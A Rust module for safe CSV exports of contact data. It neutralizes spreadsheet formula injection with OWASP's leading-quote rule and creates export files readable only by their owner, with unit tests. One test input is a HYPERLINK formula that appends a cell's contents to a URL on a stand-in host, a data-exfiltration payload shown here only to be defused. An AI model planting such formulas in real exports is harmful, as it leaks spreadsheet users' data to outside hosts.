//! Files this device writes for people to open elsewhere (CSV exports of contacts and of the
//! campaign's matrix): created readable by their owner only, and every cell written so that a
//! spreadsheet shows it as text and never runs it as a formula.
//!
//! Every CSV writer goes through [`CsvWriter`], which has no way to write a raw cell, and every
//! export file is made by [`create_private_file`].

use std::borrow::Cow;
use std::fs::File;
use std::io::Write;
use std::path::{Path, PathBuf};

use crate::error::{Error, Result};

/// The first characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a
/// cell as a formula or a command: OWASP's list for CSV injection.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as it is safe to write to a CSV file: one starting with `=`, `+`, `-`, `@`, a tab
/// or a carriage return gets a leading `'`, which spreadsheets read as "this is text" (OWASP's
/// rule). A contact named `=HYPERLINK(...)` is then shown, not followed.
///
/// Numbers are cells too: a negative number would come out as `'-3`. No column Groundwork
/// exports holds one (support is 1 to 5, times are RFC 3339), so the rule has no exception.
pub fn neutralize_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Creates (or replaces) a file that will hold personal data, readable and writable by its
/// owner only (0600 on Unix), whatever the process's umask.
///
/// A regular file already at `path` is replaced, as a spreadsheet export usually is, but first
/// made 0600 if it was more open, and only then emptied: nothing written here is ever
/// readable by others through it. Something else at the path (a pipe, `/dev/stdout`) is
/// written to as it is, its permissions untouched.
pub fn create_private_file(path: &Path) -> Result<File> {
    let io = |action, source| Error::Io {
        action,
        path: path.to_owned(),
        source,
    };
    let mut options = std::fs::OpenOptions::new();
    // Not `truncate`: an existing file is emptied below, after its permissions are tightened.
    options.write(true).create(true);
    #[cfg(unix)]
    {
        use std::os::unix::fs::OpenOptionsExt;
        // The mode of a new file (the umask can only narrow it).
        options.mode(0o600);
    }
    let file = options.open(path).map_err(|e| io("creating", e))?;
    let meta = file
        .metadata()
        .map_err(|e| io("reading the permissions of", e))?;
    if meta.is_file() {
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            if meta.permissions().mode() & 0o077 != 0 {
                file.set_permissions(std::fs::Permissions::from_mode(0o600))
                    .map_err(|e| io("making private", e))?;
            }
        }
        file.set_len(0).map_err(|e| io("emptying", e))?;
    }
    Ok(file)
}

/// A CSV writer whose every cell goes through [`neutralize_formula`]: the only way this crate
/// writes CSV.
pub struct CsvWriter<W: Write> {
    /// The csv crate's writer (quoting, line endings).
    inner: csv::Writer<W>,
    /// The file written to, if it is one: named by write errors.
    path: Option<PathBuf>,
}

impl CsvWriter<File> {
    /// Creates the CSV file at `path` with [`create_private_file`].
    pub fn create(path: &Path) -> Result<Self> {
        let file = create_private_file(path)?;
        Ok(Self {
            inner: csv::Writer::from_writer(file),
            path: Some(path.to_owned()),
        })
    }
}

impl<W: Write> CsvWriter<W> {
    /// Writes CSV to `out` (a response body, a buffer).
    pub fn new(out: W) -> Self {
        Self {
            inner: csv::Writer::from_writer(out),
            path: None,
        }
    }

    /// Writes one row, each cell made safe for spreadsheets.
    pub fn write_row<I>(&mut self, cells: I) -> Result<()>
    where
        I: IntoIterator,
        I::Item: AsRef<str>,
    {
        for cell in cells {
            let cell = neutralize_formula(cell.as_ref());
            self.inner
                .write_field(cell.as_bytes())
                .map_err(|e| self.error(e))?;
        }
        // An empty record after fields written one by one ends the row.
        self.inner
            .write_record(std::iter::empty::<&[u8]>())
            .map_err(|e| self.error(e))
    }

    /// Writes out everything buffered. Dropping the writer also flushes, but silently.
    pub fn finish(mut self) -> Result<()> {
        self.inner.flush().map_err(|e| self.error(e.into()))
    }

    /// A write error, naming the file when there is one.
    fn error(&self, e: csv::Error) -> Error {
        let Some(path) = self.path.as_ref().filter(|_| e.is_io_error()) else {
            return Error::Csv(e);
        };
        match e.into_kind() {
            csv::ErrorKind::Io(source) => Error::Io {
                action: "writing",
                path: path.clone(),
                source,
            },
            other => Error::Invalid {
                what: "CSV output",
                reason: format!("{other:?}"),
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_a_spreadsheet_would_run_get_a_quote() {
        for (cell, expected) in [
            (
                "=HYPERLINK(\"http://x/?\"&J3, \"open\")",
                "'=HYPERLINK(\"http://x/?\"&J3, \"open\")",
            ),
            ("+1 555 0100", "'+1 555 0100"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("plain", "plain"),
            ("a=b", "a=b"),
            (" =1", " =1"),
            ("", ""),
            ("2026-12-01T00:30:00Z", "2026-12-01T00:30:00Z"),
        ] {
            assert_eq!(neutralize_formula(cell), expected, "{cell:?}");
        }
    }

    #[test]
    fn every_row_goes_through_the_rule() -> Result<()> {
        let mut out = Vec::new();
        let mut w = CsvWriter::new(&mut out);
        w.write_row(["name", "note"])?;
        w.write_row(["=1+1", "-ok"])?;
        w.write_row([String::from("@x"), String::new()])?;
        w.finish()?;
        let text = String::from_utf8_lossy(&out);
        assert_eq!(text, "name,note\n'=1+1,'-ok\n'@x,\n");
        Ok(())
    }

    #[cfg(unix)]
    #[test]
    fn export_files_are_private_new_or_replaced() -> Result<()> {
        use std::os::unix::fs::PermissionsExt;
        let dir = std::env::temp_dir().join(format!("gw-export-{}", crate::ids::new_entity_id()?));
        let io = |source| Error::Io {
            action: "testing in",
            path: dir.clone(),
            source,
        };
        std::fs::create_dir_all(&dir).map_err(io)?;
        let mode = |p: &Path| -> Result<u32> {
            Ok(std::fs::metadata(p).map_err(io)?.permissions().mode() & 0o777)
        };
        let new = dir.join("new.csv");
        let mut w = CsvWriter::create(&new)?;
        w.write_row(["a"])?;
        w.finish()?;
        assert_eq!(mode(&new)?, 0o600);

        let old = dir.join("old.csv");
        std::fs::write(&old, "a long previous export\n").map_err(io)?;
        std::fs::set_permissions(&old, std::fs::Permissions::from_mode(0o644)).map_err(io)?;
        let mut w = CsvWriter::create(&old)?;
        w.write_row(["b"])?;
        w.finish()?;
        assert_eq!(mode(&old)?, 0o600);
        assert_eq!(std::fs::read_to_string(&old).map_err(io)?, "b\n");
        let _ = std::fs::remove_dir_all(&dir);
        Ok(())
    }
}
